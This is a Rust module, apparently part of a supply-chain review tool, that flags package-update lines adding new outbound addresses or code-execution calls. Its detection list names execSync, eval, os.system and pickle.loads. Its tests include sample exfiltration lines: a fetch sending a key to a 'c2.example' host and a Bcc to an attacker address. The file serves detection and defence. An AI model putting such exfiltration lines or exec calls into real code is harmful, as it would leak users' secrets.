//! What an update adds: new places that it reaches out to, new ways to run code.
//!
//! A diff shows what reading would find at once and nothing more: it is a reason to look, never a reason to trust. The
//! sandbox is what keeps an unseen addition from reaching anybody.

use interlock_launch::excerpt;

use super::{Notes, rules};

/// Ways to start a program or to run text as code, in JavaScript and Python.
const RUNS_CODE: &[&str] = &[
    "child_process",
    "execSync",
    "spawn(",
    "eval(",
    "new Function",
    "exec(",
    "subprocess",
    "os.system",
    "__import__",
    "compile(",
    "vm.run",
    "atob(",
    "b64decode",
    "pickle.loads",
];

/// Judges the lines that an update adds; `removed` has those it takes away.
pub(super) fn judge_lines(added: &[&str], removed: &[&str], notes: &mut Notes) {
    for line in added {
        for place in places(line) {
            if !removed.iter().any(|line| line.contains(place)) {
                let text = format!(
                    "the update adds `{}`, in `{}`",
                    excerpt(place),
                    excerpt(line)
                );
                notes.note(rules::UPDATE_REACHES_OUT, text);
            }
        }
        if RUNS_CODE.iter().any(|way| line.contains(way)) {
            notes.note(
                rules::UPDATE_RUNS_CODE,
                format!("the update adds `{}`", excerpt(line)),
            );
        }
    }
}

/// Mail addresses, addresses of the web and bare numeric addresses in a line.
fn places(line: &str) -> impl Iterator<Item = &str> {
    let separates = |c: char| {
        c.is_whitespace()
            || matches!(
                c,
                '"' | '\'' | '`' | '(' | ')' | '<' | '>' | ',' | ';' | '[' | ']' | '{' | '}'
            )
    };
    line.split(separates)
        .filter(|word| is_mail(word) || is_web(word) || is_number(word))
}

fn is_mail(word: &str) -> bool {
    word.split_once('@').is_some_and(|(user, host)| {
        !user.is_empty()
            && !user.contains('/')
            && host.contains('.')
            && !host.starts_with('.')
            && !host.contains('/')
            && host.starts_with(|c: char| c.is_ascii_alphabetic())
    })
}

fn is_web(word: &str) -> bool {
    [
        "http://", "https://", "ws://", "wss://", "ftp://", "smtp://",
    ]
    .iter()
    .any(|scheme| word.contains(scheme))
}

fn is_number(word: &str) -> bool {
    let host = word.split(':').next().unwrap_or(word);
    host.parse::<std::net::Ipv4Addr>()
        .is_ok_and(|address| !address.is_loopback() && !address.is_unspecified())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn additions_that_reach_out_or_run_code() {
        for (added, removed, expected) in [
            ("Bcc: 'x@attacker.invalid'", "", &["update-reaches-out"][..]),
            (
                "fetch(`https://c2.example/${key}`)",
                "",
                &["update-reaches-out"],
            ),
            ("connect('203.0.113.9:443')", "", &["update-reaches-out"]),
            (
                "fetch('https://api.example')",
                "get('https://api.example')",
                &[],
            ),
            (
                "require('child_process').execSync(x)",
                "",
                &["update-runs-code"],
            ),
            ("import x from '@scope/pkg'", "", &[]),
            ("const total = a + b; // 1.0.16", "", &[]),
            ("listen('127.0.0.1')", "", &[]),
        ] {
            let mut notes = Notes::default();
            judge_lines(&[added], &[removed], &mut notes);
            assert_eq!(notes.codes(), expected, "{added}");
        }
    }
}
